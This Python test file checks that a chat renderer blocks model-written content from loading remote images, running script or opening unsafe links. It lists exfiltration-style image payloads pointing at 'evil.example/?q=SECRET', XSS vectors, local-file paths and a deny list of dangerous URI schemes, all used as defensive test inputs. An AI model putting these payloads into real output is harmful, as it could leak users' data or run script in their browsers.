"""What a model writes cannot make the program load, open or run anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatbench.rendering.blocks import AnyBlock, TableBlock, TextBlock
from chatbench.rendering.characters import has_hidden, visible
from chatbench.rendering.document import parse
from chatbench.rendering.export import plain_text, to_html
from chatbench.rendering.links import allowed, link_target
from chatbench.rendering.nodes import ImageObject, InlineObject

TAGS = {"p", *(f"h{n}" for n in range(1, 7)), "strong", "em", "s", "code", "br", "ul", "ol", "li", "a"}
EXPORT_TAGS = TAGS | {"pre", "div", "blockquote", "table", "tr", "th", "td", "hr"}
EVIL = "https://evil.example/?q=SECRET"

LOADS = [
    f"![x]({EVIL})",
    f'![x](<{EVIL}> "title")',
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"[![x]({EVIL})]({EVIL})",
    f"- ![x]({EVIL})",
    f"> ![x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"# ![x]({EVIL})",
    f"*![x]({EVIL})*",
    "![x](//evil.example/p.png)",
    "![x](file:///etc/passwd)",
    "![x](/etc/passwd)",
    "![x](../../secret.png)",
    r"![x](\\evil.example\share\x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](qrc:/icons/x.svg)",
    "![x](attachment:../../etc/passwd)",
    f'<img src="{EVIL}">',
    f"<img src={EVIL}>",
    f'<img srcset="{EVIL} 2x">',
    f'<picture><source srcset="{EVIL}"><img></picture>',
    f'<div style="background:url({EVIL})">x</div>',
    f"<style>@import url({EVIL});</style>",
    f'<link rel="stylesheet" href="{EVIL}">',
    f'<link rel="prefetch" href="{EVIL}">',
    f'<iframe src="{EVIL}"></iframe>',
    f'<object data="{EVIL}"></object>',
    f'<embed src="{EVIL}">',
    f'<video poster="{EVIL}"></video>',
    f'<audio src="{EVIL}" autoplay></audio>',
    f'<svg><image href="{EVIL}"/></svg>',
    f'<svg><use xlink:href="{EVIL}#a"/></svg>',
    '<svg onload="alert(1)"></svg>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<body background="{EVIL}">',
    f'<table background="{EVIL}"><tr><td>x</td></tr></table>',
    f'<input type="image" src="{EVIL}">',
    f'<form action="{EVIL}"><button>x</button></form>',
    f"<base href='{EVIL}'>",
    "<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<img src="file:///etc/passwd">',
    r'<img src="\\evil.example\share">',
    "<a onclick='alert(1)'>x</a>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    f"$\\includegraphics{{{EVIL}}}$",
    '&lt;img src="x"&gt;',
    "&#60;img src=x onerror=alert(1)&#62;",
    f'![" onerror="alert(1)]({EVIL})',
    f'[x]({EVIL}"onmouseover="alert(1))',
]

NO_LINKS = [
    *["javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)"],
    *["java\tscript:alert(1)", "\x01javascript:alert(1)", "vbscript:x", "data:text/html,<script>1</script>"],
    *["file:///etc/passwd", "file://host/share", "\\\\host\\share", "//host/path", "/etc/passwd", "C:/x"],
    *["vscode://file/etc", "ms-msdt:/id", "search-ms:query=x", "smb://h/s", "ftp://h/x", "ssh://h"],
    *["tel:123", "about:blank", "chrome://settings", "jar:http://x!/", "view-source:http://x", "ws://h/"],
    *["intent://x", "steam://run/1", "qrc:/x", "attachment:abc", "blob:http://x", "http:evil", "https:/x"],
    *["http:\\\\evil.example\\x", "https://", "http:///x", "mailto:"],
]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def htmls(blocks: list[AnyBlock]) -> list[str]:
    out = []
    for block in blocks:
        if isinstance(block, TextBlock):
            out.append(block.html)
        elif isinstance(block, TableBlock):
            out += [cell.html for row in (block.header_cells, *block.row_cells) for cell in row]
    return out


def objects(blocks: list[AnyBlock]) -> list[InlineObject]:
    out: list[InlineObject] = []
    for block in blocks:
        if isinstance(block, TextBlock):
            out += block.objects
        elif isinstance(block, TableBlock):
            out += [o for row in (block.header_cells, *block.row_cells) for cell in row for o in cell.objects]
    return out


def check(html: str, tags: set[str]) -> None:
    for tag, attributes in tags_of(html):
        assert tag in tags
        for name, value in attributes.items():
            assert name in {"href", "start", "class", "align", "border", "cellspacing", "cellpadding"}
            if name == "href":
                assert value is not None
                assert tag == "a"
                assert re.match(r"(https?://[^/]|mailto:)", value, re.IGNORECASE)
            elif name == "class":
                assert value in {"checked", "unchecked"}
    for inside in re.findall(r"<[^>]*>", html):
        assert "javascript:" not in inside.lower()
        assert not re.search(r"\son\w+\s*=", inside)
    assert "<script" not in html.lower()


@pytest.mark.parametrize("text", LOADS)
def test_nothing_is_loaded(text: str) -> None:
    blocks = parse(text)
    assert blocks
    for html in htmls(blocks):
        check(html, TAGS)
    check(to_html(blocks), EXPORT_TAGS)


@pytest.mark.parametrize("text", LOADS[:11])
def test_an_image_becomes_a_card_that_names_its_host(text: str) -> None:
    (image,) = [value for value in objects(parse(text)) if isinstance(value, ImageObject)]
    assert (image.host, image.attachment) == ("evil.example", None)


@pytest.mark.parametrize("text", [text for text in LOADS[11:21] if "evil" not in text])
def test_an_image_without_a_host_can_not_be_asked_for(text: str) -> None:
    for value in objects(parse(text)):
        assert isinstance(value, ImageObject)
        assert (value.host, value.attachment) == ("", None)


def test_an_attachment_is_known_by_its_hash_only() -> None:
    digest = "0123456789abcdef" * 4
    (image,) = objects(parse(f"![a](attachment:{digest})"))
    assert isinstance(image, ImageObject)
    assert (image.attachment, image.host) == (digest, "")


@pytest.mark.parametrize("address", NO_LINKS)
@pytest.mark.parametrize("form", ["[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}", "[x]: <{}>\n\n[x]", "{}"])
def test_only_http_https_and_mailto_are_links(address: str, form: str) -> None:
    html = "".join(htmls(parse(form.format(address))))
    assert all(tag != "a" for tag, _attributes in tags_of(html)), html
    assert not allowed(address)
    assert link_target(address) is None


@pytest.mark.parametrize(
    "address", [" https://a", "https://a b", "https://a\\b", "https://a%5cb", "x https://a"]
)
def test_an_address_with_a_space_or_backslash_is_not_opened(address: str) -> None:
    assert not allowed(address)
    for form in ("[x](<{}>)", "[x]\n\n[x]: <{}>"):
        for _tag, attributes in tags_of("".join(htmls(parse(form.format(address))))):
            assert attributes.get("href") in (None, "https://a")


def test_the_target_of_what_is_no_link_is_shown() -> None:
    (block,) = parse("[Click me](vscode://evil/run)")
    assert "vscode://evil/run" in plain_text([block])


@pytest.mark.parametrize(
    ("words", "address", "misleading"),
    [
        ("https://bank.example/login", "https://evil.example/login", True),
        ("bank.example", "https://bank.example.evil.example", True),
        ("www.bank.example", "https://bank.example/x", False),
        ("click here", "https://evil.example", False),
        ("https://bank.example", "https://bank.example@evil.example", True),
    ],
)
def test_a_link_whose_words_name_another_host_is_misleading(
    words: str, address: str, misleading: bool
) -> None:
    target = link_target(address, words)
    assert target is not None
    assert target.misleading is misleading


def test_a_look_alike_host_is_shown_in_punycode() -> None:
    (block,) = parse("[x](https://аpple.com/)")
    assert isinstance(block, TextBlock)
    assert "xn--pple-43d.com" in block.html


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u2066", "\u200f", "\x1b", "\x07", "\x9b", "\x7f", "\U000e0041", "\ufffc", "\u2028"]
)
def test_hidden_characters_are_shown(hidden: str) -> None:
    assert hidden not in visible(f"a{hidden}b")
    assert has_hidden(f"a{hidden}b")
    for text in (f"a{hidden}b", f"`a{hidden}b`", f"- a{hidden}b", f"| a{hidden}b | c |\n|--|--|"):
        assert hidden not in "".join(htmls(parse(text)))


def test_joiners_variation_selectors_and_flags_stay() -> None:
    text = "👩\u200d👧 ❤\ufe0f \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f é\u0301"
    assert visible(text) == text
    assert not has_hidden(text)


def test_an_object_character_in_the_text_is_no_object() -> None:
    (block,) = parse("a \ufffc b $x$")
    assert isinstance(block, TextBlock)
    assert block.html.count("\ufffc") == len(block.objects) == 1


PIECES = st.sampled_from(
    [
        *[
            "<script",
            ">",
            '"',
            "'",
            "<img src=x onerror=y>",
            "javascript:",
            "](",
            "![",
            "[",
            ")",
            "\n",
            "\n\n",
            " ",
        ],
        *[
            "`",
            "```",
            "|",
            "|-|\n",
            "- ",
            "> ",
            "$",
            "&lt;",
            "&#x3c;",
            "https://a.b/",
            "<",
            "\\",
            "*",
            "onload=",
        ],
    ]
)


@settings(max_examples=500)
@given(st.one_of(st.text(max_size=80), st.lists(PIECES, max_size=25).map("".join)))
def test_any_text_gives_safe_html(text: str) -> None:
    blocks = parse(text)
    for html in htmls(blocks):
        check(html, TAGS)
    check(to_html(blocks), EXPORT_TAGS)
    plain_text(blocks)


@pytest.mark.parametrize(
    "text",
    [
        *["[" * 5_000, "![" * 5_000, "*a " * 5_000, "$a " * 5_000, "\\( " * 5_000, ">" * 5_000 + "a"],
        *[
            "- " * 1_000 + "x",
            "<a " * 5_000,
            "|" * 5_000 + "\n|" + "-|" * 5_000,
            "[x](" * 5_000,
            "``` ` " * 5_000,
        ],
    ],
    ids=lambda text: repr(text[:4]),
)
def test_deep_and_repeated_marks_are_kept_as_text(text: str) -> None:
    blocks = parse(text)
    assert blocks
    assert sum(len(block.source) for block in blocks) >= len(text.rstrip()) * 0.9
    for html in htmls(blocks):
        check(html, TAGS)
